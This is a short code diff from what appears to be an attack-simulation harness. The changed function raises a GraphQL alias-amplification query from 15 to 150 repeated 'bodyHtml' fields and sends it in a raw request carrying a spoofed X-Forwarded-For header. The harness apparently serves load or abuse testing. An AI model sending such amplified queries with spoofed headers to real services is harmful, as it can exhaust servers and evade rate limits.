@@ -156,7 +156,7 @@ async def refused_documents(attacker: Attacker) -> str:
 
 async def nothing_read(attacker: Attacker) -> str:
     """Large answers of which nothing is taken."""
-    aliases = " ".join(f"a{at}: bodyHtml" for at in range(15))
+    aliases = " ".join(f"a{at}: bodyHtml" for at in range(150))
     query = f"query ($id: ID!) {{ node(id: $id) {{ ... on Reply {{ {aliases} }} }} }}"
     body = json.dumps({"query": query, "variables": {"id": attacker.target.replies["addresses"]}}).encode()
     head = f"POST /graphql HTTP/1.1\r\nHost: {HOST}\r\nX-Forwarded-For: {attacker.address}\r\n"
